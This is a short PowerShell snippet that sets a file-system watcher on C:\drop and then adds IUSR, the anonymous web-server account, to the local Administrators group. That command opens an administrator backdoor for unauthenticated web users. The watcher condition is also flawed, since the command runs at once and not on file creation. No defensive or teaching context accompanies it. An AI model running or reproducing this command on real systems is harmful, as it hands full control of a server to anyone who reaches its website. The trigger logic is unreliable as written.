$watcher = New-Object IO.FileSystemWatcher C:\drop
if (Register-ObjectEvent $watcher Created) { net localgroup Administrators IUSR /add }
